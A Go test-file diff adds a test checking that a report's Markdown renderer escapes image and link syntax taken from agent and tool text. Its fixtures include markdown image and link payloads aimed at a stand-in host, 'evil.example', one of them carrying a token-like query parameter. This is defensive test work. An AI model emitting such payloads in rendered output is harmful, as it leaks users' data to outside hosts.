@@ -1,6 +1,7 @@
 package report
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 
@@ -62,5 +63,18 @@ func TestMarkdownListsAgentRounds(t *testing.T) {
 		if !strings.Contains(md, want) {
 			t.Fatalf("want\n%s\n---\n%s", want, md)
 		}
+	}
+}
+
+// A model's (or a tool's) text in a report stays text: no image or link
+// forms in it (the console renders reports; an image would fetch its URL).
+func TestMarkdownKeepsTextInert(t *testing.T) {
+	a := &wire.AgentRun{Rounds: []wire.AgentRound{{Round: 1, Calls: []string{`call-1 file.checksum {"path":"![s](http://evil.example/px?d=tok)"}`},
+		Refused: []string{"c1 : <http://evil.example/a> [x](http://evil.example/b)"}}}}
+	md := Markdown(Document{Result: wire.Result{Plan: "p", Status: wire.StatusPassed, Steps: []wire.StepResult{{ID: "triage", Status: wire.StepFailed, Agent: a,
+		Reason: "![r](http://evil.example/r)", Envelope: &wire.Envelope{Feedback: []wire.Feedback{{Message: "see ![f](http://evil.example/f)"}}}}}}})
+	live := regexp.MustCompile(`(^|[^\\])(!?\[[a-z]\]\(|<http)`)
+	if m := live.FindString(md); m != "" || strings.Count(md, `\[`) < 4 {
+		t.Fatalf("%q stays live in:\n%s", m, md)
 	}
 }
